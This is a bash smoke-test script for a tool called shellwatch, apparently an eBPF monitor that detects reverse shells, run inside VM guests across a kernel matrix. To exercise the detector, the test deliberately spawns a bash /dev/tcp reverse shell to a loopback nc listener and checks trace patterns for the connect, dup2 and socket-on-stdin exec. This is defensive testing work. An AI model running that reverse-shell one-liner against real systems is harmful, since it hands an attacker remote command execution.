# smoke.sh: the live smoke test run inside each kernel-matrix guest (by guest/init, with bash), TAP
# on stdout. The probing unit tests (live part included); then shellwatch itself: `record` while a
# bash /dev/tcp reverse shell connects to a busybox nc listener on the guest's loopback, and the
# trace must show the connect and an exec with a socket on stdio. Before `record` exists, the BPF
# object is only loaded with bpftool. Every wait is bounded (wait_until from tests/lib.sh).
export SW_ROOT=/ SW_BUILD=/sw SW_BIN=/sw/shellwatch SW_TMP=/tmp/sw
mkdir -p "$SW_TMP"
. /lib.sh
port=4444
rel=$(uname -r)

# run_tap NAME CMD...: a TAP program's lines, renamed "NAME: ..."; a crash counts as a failure.
run_tap() {
	local name=$1 rc
	shift
	"$@" >"$SW_TMP/tap.out" 2>&1
	rc=$?
	sed -E "s/^(not )?ok [0-9]+ - /\1ok - $name: /" "$SW_TMP/tap.out"
	[ "$rc" -eq 0 ] || grep -q '^not ok' "$SW_TMP/tap.out" || tap_fail "$name exited with $rc"
}

nc_listening() { netstat -ltn 2>/dev/null | grep -q ":$port "; }
trace_has() { grep -qE "$1" "$SW_TMP/trace"; }
fails=0
# check_trace NAME REGEX: a TAP line for a line of the trace; failures are counted for diagnostics.
check_trace() {
	if trace_has "$2"; then tap_ok "$1"; else tap_fail "$1" "no trace line matches $2"; fails=$((fails + 1)); fi
}

# The reverse shell: nc sends two commands, the shell's output comes back over the socket.
reverse_shell() {
	(printf 'uname -r\nexit\n' | timeout 30 nc -l -p "$port" >"$SW_TMP/nc.out") &
	local ncpid=$!
	wait_until 10 nc_listening || { tap_fail "listener up"; return 1; }
	timeout 30 bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null
	wait "$ncpid"
	check "reverse shell ran (its output came back over the socket)" grep -qF "$rel" "$SW_TMP/nc.out"
}

smoke_record() {
	"$SW_BIN" record -o "$SW_TMP/trace" 2>"$SW_TMP/record.err" &
	local rpid=$!
	# Capture is on once an exec we make shows up in the trace.
	touch "$SW_TMP/trace"
	ready() { /bin/true sw-ready-marker; trace_has 'sw-ready-marker' || ! kill -0 "$rpid"; }
	if ! wait_until 60 ready || ! kill -0 "$rpid" 2>/dev/null; then
		tap_fail "record started" "$(cat "$SW_TMP/record.err")"
		return
	fi
	tap_ok "record started"
	reverse_shell
	wait_until 10 trace_has "^execve .*fd0=sock:inet"
	kill -INT "$rpid"
	wait_until 20 eval '! kill -0 '"$rpid"' 2>/dev/null' || kill -9 "$rpid"
	check "record exited cleanly" eval 'wait '"$rpid"
	check_trace "trace has the connect to port $port" "^connect .*family=inet addr=127\.0\.0\.1 port=$port => 0"
	check_trace "trace has the listener's accept" "^accept4? .*comm=nc .*family=inet"
	check_trace "trace has a dup2 of the socket onto stdin" "^dup2 .*newfd=0 .*sock=1"
	check_trace "trace has the shell's exec with the socket on stdin" \
		"^execve .*exe=/bin/bash .*fd0=sock:inet .*peer0=127\.0\.0\.1:$port"
	[ "$fails" = 0 ] && return
	sed 's/^/# record: /' "$SW_TMP/record.err"
	grep -E '^(connect|accept|dup|execve)' "$SW_TMP/trace" | tail -n 12 | sed 's/^/# trace: /'
}

# Without `record` yet: does the BPF object at least load on this kernel?
smoke_bpftool() {
	local obj
	for obj in /sw/*.bpf.o; do
		[ -e "$obj" ] || continue
		check "$(basename "$obj") loads (bpftool prog loadall)" \
			bpftool prog loadall "$obj" "/sys/fs/bpf/$(basename "$obj" .bpf.o)"
	done
}

if [ -x "$SW_BIN" ] && "$SW_BIN" record --help >/dev/null 2>&1; then
	smoke_record
elif [ -x /sw/bpftool ]; then
	echo "# shellwatch record not available: loading the BPF object only"
	smoke_bpftool
fi
run_tap probe /sw/test_probe
